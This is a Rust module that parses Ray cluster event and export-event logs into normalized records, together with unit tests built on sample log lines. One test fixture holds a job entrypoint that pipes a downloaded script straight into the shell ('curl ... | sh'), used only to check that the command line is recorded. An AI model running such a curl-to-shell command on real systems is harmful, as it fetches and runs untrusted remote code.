//! `events/event_<SOURCE>.log` and `export_events/event_EXPORT_<TYPE>.log`:
//! one JSON object per line (ray-logs.md §4.7).

use crate::fields::{self as rf, action as ra};
use crate::ids::{IdKind, to_hex};
use crate::jsonlog::int;
use crate::{context, cpp, oom, traceback};
use serde_json::{Map, Value as J};
use sightline_decode::helpers::{normalize_level, parse_epoch_int, set_source_addr};
use sightline_decode::{Context, Event};
use sightline_event::{Outcome, action, field};

/// Whether a parsed object is a Ray event or export event.
pub fn is_event(obj: &Map<String, J>) -> bool {
    obj.contains_key("event_data")
        || (obj.contains_key("source_type") && obj.contains_key("event_id"))
        || (obj.contains_key("label")
            && obj.contains_key("severity")
            && obj.contains_key("message"))
}

fn s<'a>(obj: &'a Map<String, J>, k: &str) -> Option<&'a str> {
    obj.get(k).and_then(J::as_str)
}

fn set_id(ev: &mut Event, name: &'static str, v: Option<&J>, kind: IdKind) {
    if let Some(h) = v.and_then(J::as_str).and_then(|s| to_hex(s, kind)) {
        // All-`f` ids are nil (a driver's task id, an unowned actor).
        if !h.bytes().all(|b| b == b'f') {
            ev.set(name, h);
        }
    }
}

pub fn fill(ev: &mut Event, obj: &Map<String, J>, ctx: &Context<'_>) {
    if let Some(ts) = obj.get("timestamp").and_then(int).and_then(parse_epoch_int) {
        ctx.stamp(ev, ts);
    }
    if let Some(id) = s(obj, "event_id") {
        ev.set(rf::EVENT_ID, id);
    }
    let source = s(obj, "source_type").unwrap_or("");
    if !source.is_empty() {
        ev.set(field::RAY_EVENT_SOURCE_TYPE, source);
    }
    if let Some(h) = s(obj, "host_name")
        .or_else(|| s(obj, "source_hostname"))
        .filter(|h| !h.is_empty())
    {
        ev.set(field::HOST_NAME, h);
    }
    if let Some(p) = obj
        .get("pid")
        .or_else(|| obj.get("source_pid"))
        .and_then(int)
    {
        ev.set(field::PROCESS_PID, p);
    }
    if let Some(sev) = s(obj, "severity") {
        ev.set(rf::EVENT_SEVERITY, sev);
        ev.level = Some(normalize_level(sev).to_owned());
    }
    if let Some(l) = s(obj, "label").filter(|l| !l.is_empty()) {
        ev.set(field::RAY_EVENT_LABEL, l);
    }
    if let Some(m) = s(obj, "message") {
        ev.message = m.to_owned();
    }
    if let Some(J::Object(cf)) = obj.get("custom_fields") {
        for (k, v) in cf {
            let v = match v {
                J::String(s) => s.clone(),
                J::Null => continue,
                other => other.to_string(),
            };
            if k == "ip" {
                ev.set(rf::NODE_ADDRESS, v);
            } else {
                context::apply(ev, k, &v);
            }
        }
    }
    if let Some(service) = match source {
        "RAYLET" => Some("raylet"),
        "GCS" => Some("gcs_server"),
        "AUTOSCALER" => Some("autoscaler"),
        s if s.starts_with("CORE_WORKER") => Some("core_worker"),
        _ => None,
    } {
        ev.set(field::SERVICE_NAME, service);
    }
    match obj.get("event_data") {
        Some(J::Object(data)) => export(ev, source, data),
        _ => plain_event(ev),
    }
}

/// `events/`: meaning by label and message.
fn plain_event(ev: &mut Event) {
    let label = ev.get_str(field::RAY_EVENT_LABEL).unwrap_or("").to_owned();
    let msg = ev.message.clone();
    match label.as_str() {
        "RAY_WORKER_FAILURE" => {
            ev.set_action(action::WORKER_FAILED);
            ev.add_category("process").add_type("end");
            ev.outcome = Outcome::Failure;
            ev.set(field::ERROR_MESSAGE, msg.as_str());
            if let Some(p) = value_after(&msg, "Worker PID: ").and_then(|p| p.parse::<i64>().ok()) {
                ev.set(rf::WORKER_PID, p);
            }
            if let Some(t) = value_after(&msg, "Worker exit type: ") {
                ev.set(rf::WORKER_EXIT_TYPE, t);
            }
        }
        "Out of Memory" => {
            ev.set_action(action::OOM_KILL);
            ev.add_category("process").add_type("end");
            ev.outcome = Outcome::Success;
            // The C++ writer escapes the report's newlines once more (`\\n`).
            let text = msg.replace("\\n", "\n").replace("\\t", "\t");
            oom::apply(ev, &text);
        }
        "RAY_NODE_REMOVED" => {
            ev.set_action(action::NODE_REMOVED);
            ev.add_category("host").add_type("end");
            cpp::node_death(ev, "UNEXPECTED_TERMINATION");
        }
        _ => {}
    }
    if let Some(r) = msg.strip_prefix("Started a ray job ") {
        ev.set(field::RAY_JOB_SUBMISSION_ID, r.trim_end_matches('.'));
        ev.set_action(ra::JOB_STARTED);
        ev.add_category("process").add_type("start");
        ev.outcome = Outcome::Success;
    } else if let Some(r) = msg.strip_prefix("Completed a ray job ") {
        // `Completed a ray job <id> with a status <STATUS>.[ <error message>]`
        if let Some((sid, rest)) = r.split_once(" with a status ") {
            ev.set(field::RAY_JOB_SUBMISSION_ID, sid);
            let status = rest.split(['.', ' ']).next().unwrap_or("");
            job_status(ev, status);
        }
    }
    if matches!(ev.level.as_deref(), Some("error" | "fatal" | "critical"))
        && ev.event_type.is_empty()
    {
        ev.add_type("error");
    }
}

/// The word after `key`, up to a space.
fn value_after<'a>(s: &'a str, key: &str) -> Option<&'a str> {
    let i = s.find(key)?;
    s[i + key.len()..]
        .split(' ')
        .next()
        .filter(|v| !v.is_empty())
}

/// Action and outcome of a Jobs API status (`JobStatus`).
fn job_status(ev: &mut Event, status: &str) {
    if status.is_empty() {
        return;
    }
    ev.set(field::RAY_JOB_STATUS, status);
    let (act, outcome, ty) = match status {
        "PENDING" => (action::JOB_SUBMITTED, Outcome::Success, "creation"),
        "RUNNING" => (ra::JOB_STARTED, Outcome::Success, "start"),
        "SUCCEEDED" => (action::JOB_FINISHED, Outcome::Success, "end"),
        "FAILED" => (action::JOB_FINISHED, Outcome::Failure, "end"),
        "STOPPED" => (action::JOB_STOPPED, Outcome::Success, "end"),
        _ => return,
    };
    ev.set_action(act);
    ev.outcome = outcome;
    ev.add_category("process").add_type(ty);
}

fn export(ev: &mut Event, source: &str, d: &Map<String, J>) {
    let kind = source.strip_prefix("EXPORT_").unwrap_or(source);
    match kind {
        "SUBMISSION_JOB" => submission_job(ev, d),
        "DRIVER_JOB" => driver_job(ev, d),
        "NODE" => node(ev, d),
        "ACTOR" => actor(ev, d),
        k if k.starts_with("TASK") => task(ev, d),
        _ => {}
    }
}

/// A runtime_env worth keeping (not `null`, `{}` or empty).
fn runtime_env(ev: &mut Event, v: Option<&str>) {
    if let Some(env) = v
        .map(str::trim)
        .filter(|e| !e.is_empty() && *e != "null" && *e != "{}")
    {
        ev.set(rf::RUNTIME_ENV, env);
    }
}

fn metadata(ev: &mut Event, v: Option<&J>) {
    if let Some(J::Object(m)) = v
        && !m.is_empty()
    {
        ev.set(rf::JOB_METADATA, J::Object(m.clone()).to_string());
    }
}

fn submission_job(ev: &mut Event, d: &Map<String, J>) {
    if let Some(sid) = s(d, "submission_job_id") {
        ev.set(field::RAY_JOB_SUBMISSION_ID, sid);
    }
    if let Some(e) = s(d, "entrypoint") {
        ev.set(field::PROCESS_COMMAND_LINE, e);
    }
    if let Some(m) = s(d, "message") {
        ev.message = m.to_owned();
    }
    runtime_env(ev, s(d, "runtime_env_json"));
    metadata(ev, d.get("metadata"));
    if let Some(c) = d.get("driver_exit_code").and_then(int) {
        ev.set(field::PROCESS_EXIT_CODE, c);
    }
    if let Some(t) = s(d, "error_type") {
        ev.set(field::ERROR_TYPE, t);
    }
    if let Some(n) = s(d, "driver_node_id") {
        ev.set(field::RAY_NODE_ID, n);
    }
    job_status(ev, s(d, "status").unwrap_or(""));
}

fn driver_job(ev: &mut Event, d: &Map<String, J>) {
    set_id(ev, field::RAY_JOB_ID, d.get("job_id"), IdKind::Job);
    if let Some(e) = s(d, "entrypoint").filter(|e| !e.is_empty()) {
        ev.set(field::PROCESS_COMMAND_LINE, e);
    }
    if let Some(ip) = s(d, "driver_ip_address") {
        set_source_addr(ev, ip);
    }
    if let Some(p) = d.get("driver_pid").and_then(int) {
        ev.set(rf::DRIVER_PID, p);
    }
    if let Some(J::Object(cfg)) = d.get("config") {
        metadata(ev, cfg.get("metadata"));
        if let Some(J::Object(rt)) = cfg.get("runtime_env_info") {
            runtime_env(ev, s(rt, "serialized_runtime_env"));
        }
    }
    ev.add_category("process");
    if d.get("is_dead").and_then(J::as_bool) == Some(true) {
        ev.set_action(action::JOB_FINISHED);
        ev.add_type("end");
    } else {
        ev.set_action(ra::JOB_REGISTERED);
        ev.add_type("start");
        ev.outcome = Outcome::Success;
    }
    if ev.message.is_empty() {
        ev.message = format!(
            "Driver job {} {}",
            ev.get_str(field::RAY_JOB_ID).unwrap_or("?"),
            if ev.action.as_deref() == Some(action::JOB_FINISHED) {
                "finished"
            } else {
                "registered"
            }
        );
    }
}

fn node(ev: &mut Event, d: &Map<String, J>) {
    set_id(ev, field::RAY_NODE_ID, d.get("node_id"), IdKind::Unique);
    if let Some(a) = s(d, "node_manager_address") {
        ev.set(rf::NODE_ADDRESS, a);
    }
    if let Some(n) = s(d, "node_name") {
        ev.set(rf::NODE_NAME, n);
    }
    if let Some(h) = d.get("is_head_node").and_then(J::as_bool) {
        ev.set(rf::NODE_IS_HEAD, h);
    }
    let state = s(d, "state").unwrap_or("");
    ev.add_category("host");
    if !state.is_empty() {
        ev.set(field::RAY_NODE_STATE, state);
    }
    match state {
        "ALIVE" => {
            ev.set_action(action::NODE_REGISTERED);
            ev.add_type("start");
            ev.outcome = Outcome::Success;
        }
        "DEAD" => {
            ev.set_action(action::NODE_REMOVED);
            ev.add_type("end");
            if let Some(J::Object(di)) = d.get("death_info") {
                cpp::node_death(ev, s(di, "reason").unwrap_or(""));
                if let Some(m) = s(di, "reason_message").filter(|m| !m.is_empty()) {
                    ev.set(field::ERROR_MESSAGE, m);
                }
            }
        }
        _ => {
            ev.add_type("change");
        }
    }
    if ev.message.is_empty() {
        ev.message = format!(
            "Node {} {state}",
            ev.get_str(field::RAY_NODE_ID).unwrap_or("?")
        );
    }
}

fn actor(ev: &mut Event, d: &Map<String, J>) {
    set_id(ev, field::RAY_ACTOR_ID, d.get("actor_id"), IdKind::Actor);
    set_id(ev, field::RAY_JOB_ID, d.get("job_id"), IdKind::Job);
    set_id(ev, field::RAY_NODE_ID, d.get("node_id"), IdKind::Unique);
    if let Some(c) = s(d, "class_name").filter(|c| !c.is_empty()) {
        ev.set(field::RAY_ACTOR_CLASS, c);
    }
    if let Some(n) = s(d, "name").filter(|n| !n.is_empty()) {
        ev.set(field::RAY_ACTOR_NAME, n);
    }
    if let Some(n) = s(d, "ray_namespace").filter(|n| !n.is_empty()) {
        ev.set(rf::NAMESPACE, n);
    }
    if let Some(p) = d.get("pid").and_then(int).filter(|p| *p > 0) {
        ev.set(rf::WORKER_PID, p);
    }
    runtime_env(ev, s(d, "serialized_runtime_env"));
    let state = s(d, "state").unwrap_or("");
    if !state.is_empty() {
        ev.set(field::RAY_ACTOR_STATE, state);
    }
    ev.add_category("process");
    match state {
        "ALIVE" => {
            ev.set_action(ra::ACTOR_CREATED);
            ev.add_type("start");
            ev.outcome = Outcome::Success;
        }
        "DEAD" => {
            ev.add_type("end");
            let mut act = ra::ACTOR_DIED;
            if let Some(J::Object(dc)) = d.get("death_cause") {
                if let Some(J::Object(oom_ctx)) = dc.get("oom_context") {
                    act = action::OOM_KILL;
                    ev.set(rf::ACTOR_DEATH_REASON, "OUT_OF_MEMORY");
                    ev.outcome = Outcome::Failure;
                    if let Some(m) = s(oom_ctx, "error_message") {
                        ev.set(field::ERROR_MESSAGE, m);
                        oom::apply(ev, m);
                    }
                } else if let Some(J::Object(ad)) = dc.get("actor_died_error_context") {
                    let reason = s(ad, "reason").unwrap_or("");
                    if !reason.is_empty() {
                        ev.set(rf::ACTOR_DEATH_REASON, reason);
                    }
                    if let Some(m) = s(ad, "error_message") {
                        ev.set(field::ERROR_MESSAGE, m);
                        if let Some(t) = value_after(m, "Worker exit type: ") {
                            ev.set(rf::WORKER_EXIT_TYPE, t);
                        }
                    }
                    if matches!(reason, "WORKER_DIED" | "NODE_DIED") {
                        act = action::WORKER_FAILED;
                        ev.outcome = Outcome::Failure;
                    }
                } else if let Some((k, J::Object(other))) = dc.iter().next() {
                    ev.set(rf::ACTOR_DEATH_REASON, k.as_str());
                    if let Some(m) = s(other, "error_message") {
                        ev.set(field::ERROR_MESSAGE, m);
                    }
                }
            }
            ev.set_action(act);
        }
        _ => {
            ev.set_action(ra::ACTOR_STATE_CHANGED);
            ev.add_type("change");
        }
    }
    if ev.message.is_empty() {
        ev.message = format!(
            "Actor {} ({}) {state}",
            ev.get_str(field::RAY_ACTOR_ID).unwrap_or("?"),
            ev.get_str(field::RAY_ACTOR_CLASS).unwrap_or("?")
        );
    }
}

/// `rpc::TaskStatus` by number, the keys of `state_ts_ns`.
fn task_status_name(n: u32) -> Option<&'static str> {
    const NAMES: [&str; 14] = [
        "NIL",
        "PENDING_ARGS_AVAIL",
        "PENDING_NODE_ASSIGNMENT",
        "PENDING_OBJ_STORE_MEM_AVAIL",
        "PENDING_ARGS_FETCH",
        "SUBMITTED_TO_WORKER",
        "PENDING_ACTOR_TASK_ARGS_FETCH",
        "PENDING_ACTOR_TASK_ORDERING_OR_CONCURRENCY",
        "RUNNING",
        "RUNNING_IN_RAY_GET",
        "RUNNING_IN_RAY_WAIT",
        "FINISHED",
        "FAILED",
        "GETTING_AND_PINNING_ARGS",
    ];
    NAMES.get(n as usize).copied()
}

fn task(ev: &mut Event, d: &Map<String, J>) {
    set_id(ev, field::RAY_TASK_ID, d.get("task_id"), IdKind::Task);
    set_id(ev, field::RAY_JOB_ID, d.get("job_id"), IdKind::Job);
    if let Some(a) = d.get("attempt_number").and_then(int) {
        ev.label("attempt_number", a.to_string());
    }
    ev.add_category("process");
    if let Some(J::Object(ti)) = d.get("task_info") {
        if let Some(n) = s(ti, "func_or_class_name").filter(|n| !n.is_empty()) {
            ev.set(field::RAY_TASK_NAME, n);
        }
        if let Some(t) = s(ti, "type") {
            ev.set(rf::TASK_TYPE, t);
        }
        if let Some(J::Object(rt)) = ti.get("runtime_env_info") {
            runtime_env(ev, s(rt, "serialized_runtime_env"));
        }
    }
    let mut latest: Option<(i64, &'static str)> = None;
    if let Some(J::Object(su)) = d.get("state_updates") {
        set_id(ev, field::RAY_NODE_ID, su.get("node_id"), IdKind::Unique);
        set_id(
            ev,
            field::RAY_WORKER_ID,
            su.get("worker_id"),
            IdKind::Unique,
        );
        if let Some(J::Object(ts)) = su.get("state_ts_ns") {
            for (k, v) in ts {
                let (Some(state), Some(t)) =
                    (k.parse::<u32>().ok().and_then(task_status_name), int(v))
                else {
                    continue;
                };
                if latest.is_none_or(|(lt, _)| t >= lt) {
                    latest = Some((t, state));
                }
            }
        }
        if let Some(J::Object(ei)) = su.get("error_info") {
            if let Some(t) = s(ei, "error_type") {
                ev.set(rf::TASK_ERROR_TYPE, t);
                ev.set(field::ERROR_TYPE, t);
            }
            if let Some(m) = s(ei, "error_message") {
                ev.set(field::ERROR_MESSAGE, m);
                // A user exception carries its traceback; its last line names the Python exception.
                if m.contains(traceback::TRACEBACK_START) || m.starts_with("User exception") {
                    traceback_tail(ev, m);
                }
            }
            latest = latest.or(Some((0, "FAILED")));
        }
    }
    match latest {
        Some((_, state)) => {
            ev.set(rf::TASK_STATE, state);
            match state {
                "FAILED" => {
                    ev.set_action(ra::TASK_FAILED);
                    ev.add_type("end");
                    ev.outcome = Outcome::Failure;
                }
                "FINISHED" => {
                    ev.set_action(ra::TASK_FINISHED);
                    ev.add_type("end");
                    ev.outcome = Outcome::Success;
                }
                _ => {
                    ev.set_action(ra::TASK_STATE_CHANGED);
                    ev.add_type("change");
                }
            }
        }
        None => {
            if let Some(J::Object(pe)) = d.get("profile_events") {
                ev.kind = "metric".into();
                if let Some(c) = s(pe, "component_type") {
                    ev.label("component_type", c);
                }
            }
            ev.add_type("info");
        }
    }
    if ev.message.is_empty() {
        ev.message = format!(
            "Task {} ({}) {}",
            ev.get_str(field::RAY_TASK_ID).unwrap_or("?"),
            ev.get_str(field::RAY_TASK_NAME).unwrap_or("?"),
            ev.get_str(rf::TASK_STATE).unwrap_or("profile events")
        );
    }
}

/// `User exception:\n<frames>\nValueError: ...`: the Python exception type and message.
fn traceback_tail(ev: &mut Event, m: &str) {
    ev.set(field::ERROR_STACK_TRACE, m);
    let last = m
        .lines()
        .rev()
        .find(|l| !l.trim().is_empty() && !l.starts_with([' ', '\t']));
    if let Some((ty, msg)) = last.and_then(traceback::exception_line) {
        ev.set(field::ERROR_TYPE, ty);
        if !msg.is_empty() {
            ev.set(field::ERROR_MESSAGE, msg);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sightline_decode::{DecodeOptions, Record, StreamInfo};

    fn ev(line: &str) -> Event {
        let obj: Map<String, J> = serde_json::from_str(line).unwrap();
        assert!(is_event(&obj));
        let stream = StreamInfo::for_path("/e.log");
        let opts = DecodeOptions::default();
        let ctx = Context {
            stream: &stream,
            options: &opts,
            last_timestamp: None,
        };
        let rec = Record {
            text: line,
            offset: 0,
            lines: 1,
            truncated: false,
        };
        let mut e = ctx.new_event(&rec, "ray", "ray.event");
        fill(&mut e, &obj, &ctx);
        e
    }

    #[test]
    fn jobs_events() {
        let e = ev(
            r#"{"event_id": "eDCBDBaf3CBB105C8d5fA2633D48ff9AbEcB", "source_type": "JOBS", "source_hostname": "vm", "source_pid": 8177, "message": "Started a ray job raysubmit_curlpipe_dev.", "timestamp": "1795351084", "custom_fields": {"submission_id": "raysubmit_curlpipe_dev"}, "severity": "INFO", "label": ""}"#,
        );
        assert_eq!(e.action.as_deref(), Some("job-started"));
        assert_eq!(
            e.get_str("ray.job.submission_id"),
            Some("raysubmit_curlpipe_dev")
        );
        assert_eq!(e.get_str("host.name"), Some("vm"));
        assert_eq!(e.timestamp.to_string(), "2026-11-22T12:38:04Z");
        let e = ev(
            r#"{"event_id": "FC47", "source_type": "JOBS", "source_hostname": "vm", "source_pid": 8177, "message": "Completed a ray job raysubmit_7RZqETtwsLv2wH2A with a status FAILED.", "timestamp": "1795351087", "custom_fields": {"submission_id": "raysubmit_7RZqETtwsLv2wH2A"}, "severity": "INFO", "label": ""}"#,
        );
        assert_eq!(e.action.as_deref(), Some("job-finished"));
        assert_eq!(e.outcome, Outcome::Failure);
        assert_eq!(e.get_str("ray.job.status"), Some("FAILED"));
    }

    #[test]
    fn raylet_events() {
        let e = ev(
            r#"{"custom_fields":{"job_id":"01000000","node_id":"a18a45fcdc2fe56546c99ed6dfb8d949048d3d0ecf715a9e0027c590","worker_id":"08598ff1b25b3438ad9272c47a3b046e846be61655a49683f52aab84"},"event_id":"981f","host_name":"vm","label":"RAY_WORKER_FAILURE","message":"A worker died or was killed while executing a task by an unexpected system error. Worker PID: 8502 Worker exit type: SYSTEM_ERROR Worker exit detail: Worker unexpectedly exits.","pid":"8138","severity":"ERROR","source_type":"RAYLET","timestamp":1795351044}"#,
        );
        assert_eq!(e.action.as_deref(), Some("worker-failed"));
        assert_eq!(e.outcome, Outcome::Failure);
        assert_eq!(e.get_i64("ray.worker.pid"), Some(8502));
        assert_eq!(e.get_str("ray.worker.exit_type"), Some("SYSTEM_ERROR"));
        assert_eq!(e.get_i64("process.pid"), Some(8138));
        assert_eq!(e.get_str("service.name"), Some("raylet"));
        assert_eq!(e.level.as_deref(), Some("error"));
        let e = ev(
            r#"{"custom_fields":{"node_id":"a18a"},"event_id":"5a53","host_name":"vm","label":"Out of Memory","message":"2 worker(s) were killed due to the node running low on memory. Memory on the node (IP: 127.0.0.1, ID: a18a45fcdc2fe56546c99ed6dfb8d949048d3d0ecf715a9e0027c590) was 3.17GB used / 23.54GB limit (0.134696)\\nOOM kill reason: Memory usage 3404374016B exceeded threshold of 3336498176B (13.2% of 25276502016B limit)\\nSelected to kill: (Worker with no lease granted: pid=15359, actual memory used=0.05GB, worker ID=cd2e6bf90017ab13451acb43bb8dbb6773fd2910fc85f2b4580a5b90)","pid":"8138","severity":"ERROR","source_type":"RAYLET","timestamp":1795351149}"#,
        );
        assert_eq!(e.action.as_deref(), Some("oom-kill"));
        assert_eq!(e.get_i64("ray.memory.used_bytes"), Some(3404374016));
        assert_eq!(
            e.get_str("ray.worker.id"),
            Some("cd2e6bf90017ab13451acb43bb8dbb6773fd2910fc85f2b4580a5b90")
        );
    }

    #[test]
    fn export_submission_and_driver() {
        let e = ev(
            r#"{"event_id": "31fCc733c26bD7Fc67", "timestamp": 1795351084, "source_type": "EXPORT_SUBMISSION_JOB", "event_data": {"submission_job_id": "raysubmit_curlpipe_dev", "entrypoint": "bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'", "message": "Job has not started yet.", "start_time": "1795351084118", "runtime_env_json": "null", "status": "PENDING", "metadata": {"owner": "batch"}}}"#,
        );
        assert_eq!(e.action.as_deref(), Some("job-submitted"));
        assert_eq!(
            e.get_str("process.command_line"),
            Some("bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'")
        );
        assert_eq!(
            e.get_str("ray.job.submission_id"),
            Some("raysubmit_curlpipe_dev")
        );
        assert_eq!(e.get_str("ray.job.metadata"), Some(r#"{"owner":"batch"}"#));
        assert_eq!(e.get("ray.runtime_env"), None);
        let e = ev(
            r#"{"event_data":{"config":{"metadata":{},"runtime_env_info":{"serialized_runtime_env":"{}"}},"driver_ip_address":"127.0.0.1","driver_pid":"8280","end_time":"0","entrypoint":"python normal_driver.py","is_dead":false,"job_id":"AQAAAA==","start_time":"1795351042666"},"event_id":"16c5","source_type":"EXPORT_DRIVER_JOB","timestamp":1795351042}"#,
        );
        assert_eq!(e.action.as_deref(), Some("job-registered"));
        assert_eq!(e.get_str("ray.job.id"), Some("01000000"));
        assert_eq!(e.get_str("source.ip"), Some("127.0.0.1"));
        assert_eq!(
            e.get_str("process.command_line"),
            Some("python normal_driver.py")
        );
    }

    #[test]
    fn export_node_actor_task() {
        let e = ev(
            r#"{"event_data":{"death_info":{"reason":"EXPECTED_TERMINATION","reason_message":"received SIGTERM"},"end_time_ms":"1795351176115","is_head_node":true,"node_id":"oYpF/Nwv5WVGyZ7W37jZSQSNPQ7PcVqeACfFkA==","node_manager_address":"127.0.0.1","node_name":"127.0.0.1","state":"DEAD"},"event_id":"7cfb","source_type":"EXPORT_NODE","timestamp":1795351176}"#,
        );
        assert_eq!(e.action.as_deref(), Some("node-removed"));
        assert_eq!(
            e.get_str("ray.node.id"),
            Some("a18a45fcdc2fe56546c99ed6dfb8d949048d3d0ecf715a9e0027c590")
        );
        assert_eq!(
            e.get_str("ray.node.death_reason"),
            Some("EXPECTED_TERMINATION")
        );
        assert_eq!(e.outcome, Outcome::Success);
        let e = ev(
            r#"{"event_data":{"actor_id":"WQF/Dy6ar9Pogz+UAQAAAA==","class_name":"Crashy","death_cause":{"actor_died_error_context":{"error_message":"The actor is dead because its worker process has died. Worker exit type: SYSTEM_ERROR Worker exit detail: x","reason":"WORKER_DIED"}},"job_id":"AQAAAA==","name":"","node_id":"oYpF/Nwv5WVGyZ7W37jZSQSNPQ7PcVqeACfFkA==","pid":8502,"ray_namespace":"sightline-dev","state":"DEAD"},"event_id":"7761","source_type":"EXPORT_ACTOR","timestamp":1795351044}"#,
        );
        assert_eq!(e.action.as_deref(), Some("worker-failed"));
        assert_eq!(e.get_str("ray.actor.class_name"), Some("Crashy"));
        assert_eq!(e.get_str("ray.actor.death_reason"), Some("WORKER_DIED"));
        assert_eq!(e.get_str("ray.worker.exit_type"), Some("SYSTEM_ERROR"));
        assert_eq!(
            e.get_str("ray.actor.id"),
            Some("59017f0f2e9aafd3e8833f9401000000")
        );
        let e = ev(
            r#"{"event_data":{"attempt_number":0,"job_id":"AQAAAA==","state_updates":{"error_info":{"error_message":"User exception:\n\u001b[36mray::bad_task()\u001b[39m (pid=8339, ip=127.0.0.1)\n  File \"/srv/raylab/normal_driver.py\", line 19, in bad_task\n    raise ValueError(f\"intentional failure in bad_task n={n}\")\nValueError: intentional failure in bad_task n=7","error_type":"TASK_EXECUTION_EXCEPTION"},"node_id":"oYpF/Nwv5WVGyZ7W37jZSQSNPQ7PcVqeACfFkA==","state_ts_ns":{"1":"1795351043647104789","12":"1795351043651125744","2":"1795351043647160677","5":"1795351043648175582"},"worker_id":"j0G72j0DjIummSuSnp3zESRhK9mMPoo7b5i+sw=="},"task_id":"vLT+9Gs3bK////////////////8BAAAA","task_info":{"func_or_class_name":"bad_task","type":"NORMAL_TASK"}},"event_id":"a596","source_type":"EXPORT_TASK","timestamp":1795351043}"#,
        );
        assert_eq!(e.action.as_deref(), Some("task-failed"));
        assert_eq!(e.get_str("ray.task.state"), Some("FAILED"));
        assert_eq!(
            e.get_str("ray.task.error_type"),
            Some("TASK_EXECUTION_EXCEPTION")
        );
        assert_eq!(e.get_str("error.type"), Some("ValueError"));
        assert_eq!(
            e.get_str("error.message"),
            Some("intentional failure in bad_task n=7")
        );
        assert_eq!(e.get_str("ray.task.name"), Some("bad_task"));
        assert_eq!(
            e.get_str("ray.worker.id"),
            Some("8f41bbda3d038c8ba6992b929e9df31124612bd98c3e8a3b6f98beb3")
        );
    }
}
